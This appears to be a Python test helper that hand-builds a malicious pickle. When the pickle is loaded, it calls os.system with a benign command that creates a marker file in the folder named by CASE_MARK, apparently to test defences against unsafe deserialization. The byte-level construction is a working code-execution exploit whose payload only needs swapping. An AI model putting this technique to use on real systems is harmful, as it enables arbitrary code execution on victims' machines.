"""The harmless attack in made files: it would leave an empty file in the folder that CASE_MARK names."""

from __future__ import annotations

import struct

COMMAND = '[ -n "$CASE_MARK" ] && : > "$CASE_MARK/marked"'


def text(value: str) -> bytes:
    """Write BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call() -> bytes:
    """Write a call of os.system, which leaves one object on the stack."""
    return b"cos\nsystem\n" + text(COMMAND) + b"\x85R"


def attack(protocol: int = 2) -> bytes:
    """Write a whole pickle of the attack."""
    return b"\x80" + bytes([protocol]) + call() + b"."
